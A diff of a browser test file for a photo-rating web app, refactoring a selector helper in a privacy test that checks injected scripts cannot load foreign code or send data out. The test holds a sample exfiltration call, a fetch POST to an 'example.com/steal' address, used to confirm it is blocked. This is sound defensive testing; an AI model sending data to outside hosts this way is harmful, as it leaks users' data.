@@ -1,4 +1,4 @@
-import { choosePhoto, startBattle, textFile } from '../scripts/support/productPage.mjs';
+import { choosePhoto, startBattle, stateOf, textFile } from '../scripts/support/productPage.mjs';
 import { expect, expectState, ratePhoto, test } from './support/glowcheck.ts';
 import { drawnFace } from './support/photos.ts';
 
@@ -88,7 +88,7 @@ test('[PRV-02] an injected script can neither run code from another site nor sen
   complaints,
 }) => {
   await page.goto('/');
-  await expect(page.locator('[data-machine="upload"]')).toBeVisible();
+  await expect(stateOf(page, 'upload')).toBeVisible();
   const tried = await page.evaluate(async () => {
     const sent = await fetch('https://example.com/steal', { method: 'POST', body: 'x' }).then(
       () => 'sent',
